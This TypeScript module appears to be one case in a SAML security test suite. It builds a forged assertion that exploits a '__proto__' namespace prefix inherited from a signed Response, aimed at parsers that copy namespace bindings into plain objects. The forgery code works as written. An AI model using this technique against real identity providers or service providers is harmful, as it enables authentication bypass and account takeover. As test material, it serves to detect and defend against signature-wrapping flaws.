import type { Attack } from '../../support/attack.ts'
import { before, forgery, swap } from '../../support/splice.ts'

export const attack: Attack = {
  misdeed:
    'a forged assertion inherits the prefix __proto__ from the Response, for whoever copies bindings into a plain object',
  code: 'response_layout',
  forge: stage => {
    const signed = stage.response()
    const saml = /xmlns:saml="([^"]*)"/.exec(signed)?.[1] ?? ''
    const bound = swap(signed, '<samlp:Response ', `<samlp:Response xmlns:__proto__="${saml}" `)
    const evil = forgery(stage)
      .replace(/ xmlns:saml="[^"]*"/, '')
      .replaceAll('saml:', '__proto__:')
    return { evil: before(bound, '<saml:Assertion ', evil), control: bound }
  },
}
